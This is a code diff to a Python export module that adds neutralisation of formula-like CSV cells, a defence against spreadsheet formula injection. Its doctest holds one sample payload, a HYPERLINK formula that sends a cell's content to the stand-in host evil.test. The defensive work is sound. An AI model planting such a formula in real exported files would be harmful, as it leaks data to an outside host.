@@ -10,6 +10,17 @@ from pipeline.common.files import temporary_beside
 from pipeline.store.store import Store
 
 WHAT = ("documents", "counts", "stories", "issues")
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def neutralise(value: object) -> object:
+    """A text cell a spreadsheet would run as a formula (``=HYPERLINK(…)``, ``+``,
+    ``-``, ``@``, tab, CR first) gets a leading apostrophe; other values are kept.
+
+    >>> print(neutralise('=HYPERLINK("http://evil.test/?x="&A1,"Xem")'), neutralise("Sốt"), neutralise(-3))
+    '=HYPERLINK("http://evil.test/?x="&A1,"Xem") Sốt -3
+    """
+    return "'" + value if isinstance(value, str) and value.startswith(_FORMULA_START) else value
 
 
 def table(what: str, store: Store, start: str | None, end: str | None) -> pd.DataFrame:
@@ -26,8 +37,8 @@ def table(what: str, store: Store, start: str | None, end: str | None) -> pd.Dat
 
 
 def write(frame: pd.DataFrame, path: Path) -> Path:
-    """Write CSV (UTF-8 with BOM, so spreadsheet programs read Vietnamese) or Parquet,
-    by the file's suffix, through a temporary file."""
+    """Write CSV (UTF-8 with BOM, so spreadsheet programs read Vietnamese; formula-like
+    cells neutralised) or Parquet, by the file's suffix, through a temporary file."""
     path.parent.mkdir(parents=True, exist_ok=True)
     tmp = temporary_beside(path)
     frame = frame.copy()
@@ -37,7 +48,9 @@ def write(frame: pd.DataFrame, path: Path) -> Path:
     if path.suffix == ".parquet":
         frame.to_parquet(tmp, index=False)
     elif path.suffix == ".csv":
-        frame.to_csv(tmp, index=False, encoding="utf-8-sig")
+        for column in frame.columns[frame.dtypes == object]:
+            frame[column] = frame[column].map(neutralise)
+        frame.to_csv(tmp, index=False, encoding="utf-8-sig", lineterminator="\r\n")  # CR in a cell is quoted
     else:
         raise ValueError(f"{path.name}: use a .csv or .parquet file name")
     tmp.replace(path)
